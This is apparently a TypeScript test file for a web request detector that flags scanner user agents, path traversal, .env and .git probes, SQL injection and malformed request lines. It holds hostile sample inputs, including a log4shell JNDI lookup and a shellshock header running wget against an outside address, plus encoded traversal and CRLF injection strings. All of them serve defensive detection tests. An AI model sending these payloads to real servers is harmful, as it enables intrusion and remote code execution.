import test from 'ava';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { METRIC, type RequestEvent } from '@botsieve/core';
import { ManualClock, nullTelemetry } from '@botsieve/runtime';
import { defaultFeatures } from '../engine/default-features.js';
import type { EventFeatures } from '../engine/features.js';
import type { Signal } from '../engine/signal.js';
import { registerGoldenTests } from '../test-support/detector-golden.js';
import { makeEvent, metricValue } from '../test-support/events.js';
import { goldenCases, packageRoot } from '../test-support/golden.js';
import { attackSignatures, AttackSignaturesDetector } from './attack-signatures.js';
import { attackSignaturesConfigSchema, parseAttackSignaturesConfig } from './config.js';
import { LIST_ID_BASE, REQUEST_LINE } from './matchers.js';

const T0 = 1_700_000_000_000;
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
const testdata = join(packageRoot(), 'src', 'attack-signatures', 'testdata');

test('the required golden cases exist', (t) => {
  const names = goldenCases('attack-signatures/testdata').map((c) => c.name);
  for (const required of ['scanner-user-agents', 'encoded-traversal', 'injection-probes', 'shop-urls', 'request-line', 'cooldown', 'verified-never', 'class-config']) t.true(names.includes(required), required);
});

registerGoldenTests(test, 'attack-signatures', attackSignatures, 8);

function detector(raw: unknown = {}, telemetry = nullTelemetry()): AttackSignaturesDetector {
  const component = telemetry.component('detector/test');
  return attackSignatures.create(attackSignatures.parseConfig(raw), { clock: new ManualClock(T0), logger: component.log, metrics: component.metrics, id: 'a' }) as AttackSignaturesDetector;
}

let ip = 0;
/** One request from a fresh address (no cooldown in the way). */
function send(d: AttackSignaturesDetector, method: string, target: string, extra: Partial<RequestEvent> = {}, features: Partial<EventFeatures> = {}): Signal[] {
  ip += 1;
  const q = target.indexOf('?');
  const event = makeEvent({ ip: `10.${ip >> 16}.${(ip >> 8) & 255}.${ip & 255}`, timestamp_ms: T0 + ip, host: 'shop.example', method, path: q === -1 ? target : target.slice(0, q), uri: target, user_agent: CHROME, ...extra });
  return d.process(event, { ...defaultFeatures(event), ...features });
}

const lines = (file: string) =>
  readFileSync(join(testdata, file), 'utf8')
    .split('\n')
    .filter((line) => line.trim() !== '' && !line.startsWith('#'));

test('ordinary shop requests (shop-urls.txt) never signal: search queries, slugs, UTM and click ids, encoded text', (t) => {
  const d = detector();
  const shop = lines('shop-urls.txt');
  t.true(shop.length >= 100);
  for (const line of shop) {
    const [method, target] = line.split(' ') as [string, string];
    t.deepEqual(send(d, method, target), [], line);
  }
});

test('give-away requests (attack-urls.txt) signal their class and signature at once', (t) => {
  const d = detector();
  const attacks = lines('attack-urls.txt');
  t.true(attacks.length >= 80);
  for (const line of attacks) {
    const [cls, id, method, target] = line.split(' ') as [string, string, string, string];
    const found = send(d, method, target).find((s) => s.detector === `a/${cls}`);
    t.truthy(found, `${line}: no ${cls} signal`);
    if (found === undefined) continue;
    if (id === 'list') {
      const base = cls === 'restricted_file' ? LIST_ID_BASE.restricted_files : LIST_ID_BASE.os_files;
      t.true((found.evidence.signature as number) >= base && (found.evidence.signature as number) < base + 1_000_000, line);
    } else {
      t.is(found.evidence.signature, Number(id), line);
    }
    t.is(found.action, 'block', line);
    t.is(found.ttl_ms, 300_000, line);
  }
});

test('a signal names the class, carries numbers only and a short TTL hint; decoding depth is evidence', (t) => {
  const d = detector();
  const [plain] = send(d, 'GET', '/.env');
  t.like(plain, { detector: 'a/restricted_file', score: 4, action: 'block', ttl_ms: 300_000 });
  t.deepEqual(Object.keys(plain!.evidence), ['signature', 'matches', 'decode_passes', 'cooldown_ms']);
  t.like(plain!.evidence, { matches: 1, decode_passes: 0, cooldown_ms: 60_000 });
  t.is(send(d, 'GET', '/.%65nv')[0]?.evidence.decode_passes, 1);
  t.is(send(d, 'GET', '/.%2565nv')[0]?.evidence.decode_passes, 2);
  const [tool] = send(d, 'GET', '/', { user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' });
  t.deepEqual(Object.keys(tool!.evidence), ['signature', 'matches', 'cooldown_ms']);
  t.true(tool!.evidence.signature! >= LIST_ID_BASE.attack_tools && tool!.evidence.signature! < LIST_ID_BASE.restricted_files);
});

test('attack tools are blocked; generic automation (the isbot list heuristics logs) is left alone', (t) => {
  const d = detector();
  for (const ua of ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)', 'Mozilla/5.0 zgrab/0.x', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'Mozilla/4.0 (Hydra)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)']) {
    t.deepEqual(send(d, 'GET', '/', { user_agent: ua }).map((s) => [s.detector, s.action]), [['a/attack_tool', 'block']], ua);
  }
  for (const ua of ['curl/8.4.0', 'python-requests/2.31.0', 'Go-http-client/1.1', 'Go-http-client/2.0', 'Wget/1.21.4', 'okhttp/4.12.0', 'axios/1.6.2', 'node-fetch/1.0', 'Scrapy/2.11.0 (+https://scrapy.org)', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)', '']) {
    t.deepEqual(send(d, 'GET', '/', { user_agent: ua }), [], ua);
  }
});

test('log4shell and shellshock in the user agent are exploits', (t) => {
  const d = detector();
  t.deepEqual(send(d, 'GET', '/', { user_agent: '${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/x}' }).map((s) => [s.detector, s.evidence.signature]), [['a/exploit', 219]]);
  t.deepEqual(send(d, 'GET', '/cgi-bin/status', { user_agent: '() { :; }; /bin/bash -c "wget http://198.51.100.7/x"' }).map((s) => [s.detector, s.evidence.signature]), [['a/exploit', 220]]);
});

test('request line: what no browser sends is the protocol class; unknown (empty) fields are never judged', (t) => {
  const d = detector();
  const id = (method: string, target: string, protocol = 'HTTP/1.1', host = 'shop.example') => send(d, method, target, { protocol, host }).find((s) => s.detector === 'a/protocol')?.evidence.signature ?? 0;
  t.is(id('TRACE', '/'), REQUEST_LINE.probeMethod);
  t.is(id('CONNECT', 'evil.example:443'), REQUEST_LINE.connect);
  t.is(id('GET', 'http://evil.example/'), REQUEST_LINE.foreignAbsoluteUri);
  t.is(id('GET', 'HTTP://Shop.Example:443/cart'), 0, 'an absolute URI of the shop itself is allowed');
  t.is(id('GET', 'http://evil.example/', 'HTTP/1.1', ''), 0, 'no host to compare with');
  t.is(id('get', '/'), REQUEST_LINE.unknownMethod);
  t.is(id('GET', '/', 'HTTP/1.2'), REQUEST_LINE.unknownProtocol);
  t.is(id('GET', '/', 'http/1.1'), REQUEST_LINE.unknownProtocol, 'HTTP-version is case-sensitive');
  t.is(id('GET', 'admin.php'), REQUEST_LINE.malformedTarget);
  t.is(id('GET', '*'), REQUEST_LINE.malformedTarget);
  t.is(id('GET', '/a\r\nSet-Cookie: x=1'), REQUEST_LINE.controlCharacter);
  for (const [method, target, protocol] of [['GET', '/', 'HTTP/1.0'], ['GET', '/', 'HTTP/2.0'], ['GET', '/', 'HTTP/3.0'], ['GET', '/', ''], ['', '/', 'HTTP/2'], ['OPTIONS', '*', 'HTTP/1.1'], ['PROPFIND', '/', 'HTTP/1.1'], ['DELETE', '/api/cart/1', 'HTTP/2']] as const) {
    t.is(id(method, target, protocol), 0, `${method} ${target} ${protocol}`);
  }
});

test('cooldown per (address, class): one signal, then the matches in between with the next', (t) => {
  const d = detector({ cooldown_ms: 10_000 });
  const probe = (ts: number, target: string) => d.process(makeEvent({ ip: '203.0.113.9', timestamp_ms: ts, path: target, uri: target }), defaultFeatures(makeEvent()));
  t.is(probe(T0, '/.env').length, 1);
  t.is(probe(T0 + 1_000, '/.git/config').length, 0);
  t.deepEqual(probe(T0 + 2_000, '/?id=1+union+select+1').map((s) => s.detector), ['a/sqli'], 'another class signals at once');
  t.is(probe(T0 + 9_999, '/.env').length, 0);
  t.like(probe(T0 + 10_000, '/.env')[0]?.evidence, { matches: 3 });
});

test('verified good bots and safelisted addresses are never signalled', (t) => {
  const d = detector();
  t.deepEqual(send(d, 'GET', '/.env', { user_agent: 'sqlmap/1.7' }, { verified: true }), []);
  t.deepEqual(send(d, 'GET', '/.env', { user_agent: 'sqlmap/1.7' }, { safelisted: true }), []);
  t.deepEqual(send(d, 'GET', '/.env', { ip: '' }), []);
});

test('reconfigure swaps classes and signatures and keeps the cooldowns', (t) => {
  const d = detector();
  const at = (ts: number, target: string) => d.process(makeEvent({ ip: '203.0.113.20', timestamp_ms: ts, path: target, uri: target }), defaultFeatures(makeEvent()));
  t.is(at(T0, '/.env').length, 1);
  d.reconfigure(parseAttackSignaturesConfig({ classes: { restricted_file: { action: 'challenge' } }, except_entries: { restricted_files: ['.env'] } }));
  t.deepEqual(at(T0 + 70_000, '/.env'), [], 'an excepted entry no longer matches');
  t.is(at(T0 + 71_000, '/.git/config')[0]?.action, 'challenge');
  t.deepEqual(at(T0 + 72_000, '/.git/config'), [], 'the cooldown was kept');
});

test('bounded state: evictions are counted as discarded state_evicted; flush frees cooled-down pairs', async (t) => {
  const telemetry = nullTelemetry();
  const d = detector({ max_tracked_subjects: 100 }, telemetry);
  for (let i = 0; i < 250; i++) d.process(makeEvent({ ip: `198.51.100.${i}`, timestamp_ms: T0 + i, path: '/.env' }), defaultFeatures(makeEvent()));
  t.is(d.stateSize().keys, 100);
  d.flush(T0 + 250);
  t.is(await metricValue(telemetry, METRIC.discarded, { reason: 'state_evicted' }), 150);
  d.flush(T0 + 249 + 60_000);
  t.deepEqual(d.stateSize(), { keys: 0, bytes: 0 });
});

test('config: defaults, lookback, every problem listed (bad regex, duplicate ids, unknown keys, bad data file)', (t) => {
  const config = parseAttackSignaturesConfig(undefined);
  t.deepEqual(config.classes.attack_tool, { enabled: true, score: 3, action: 'block', ttl_ms: 300_000 });
  t.is(config.cooldown_ms, 60_000);
  t.true(config.signatures.length >= 50);
  t.is(config.data_file, null);
  t.is(attackSignatures.lookbackMs(config), 60_000);
  const error = t.throws(
    () =>
      parseAttackSignaturesConfig({
        signatures: [
          { id: 900, class: 'sqli', targets: ['query'], anchors: ['x'], regex: '(' },
          { id: 900, class: 'sqli', targets: ['query'], anchors: ['Upper'] },
        ],
        classes: { xss: { action: 'ban' } },
        data_file: '/nonexistent/attack.json',
        extra: 1,
      }),
    { code: 'ERR_DETECTOR_CONFIG' },
  );
  for (const part of ['signatures.0.regex', 'signatures.1.id: duplicate signature id 900', 'signatures.1.anchors.0', 'classes.xss.action', 'data_file: cannot read attack signature data', 'extra']) {
    t.true(error?.message.includes(part), `${part} in:\n${error?.message}`);
  }
});

test('every config field is described', (t) => {
  for (const [key, field] of Object.entries(attackSignaturesConfigSchema.shape)) t.truthy(field.description, key);
});

test('the path cache answers exactly as a scan: the same path again, paths sharing a slot, a class the user agent already hit', (t) => {
  const signals = (d: AttackSignaturesDetector, target: string, extra: Partial<RequestEvent>, pathHash: number) =>
    send(d, 'GET', target, extra, { path_hash: pathHash }).map((s) => [s.detector, s.evidence.signature, s.evidence.decode_passes]);
  const targets = ['/..%252f..%252fetc/passwd', '/.env', '/products/42', '/cgi-bin/%2e%2e/%2e%2e/bin/sh', '/.git/config?x=1', '/search?q=1%27%20or%201=1--'];
  const agents = [CHROME, 'sqlmap/1.7.2#stable (https://sqlmap.org)'];
  const cached = detector();
  for (let round = 0; round < 3; round++) {
    for (const target of targets) {
      for (const user_agent of agents) {
        // Every path on one slot (hash 7) and on its own slot: both must answer as a fresh detector's scan.
        const expected = signals(detector(), target, { user_agent }, 0);
        t.deepEqual(signals(cached, target, { user_agent }, 7), expected, `${target} ${user_agent} (shared slot)`);
        t.deepEqual(signals(cached, target, { user_agent }, round * 1_000 + targets.indexOf(target)), expected, `${target} ${user_agent}`);
      }
    }
  }
});
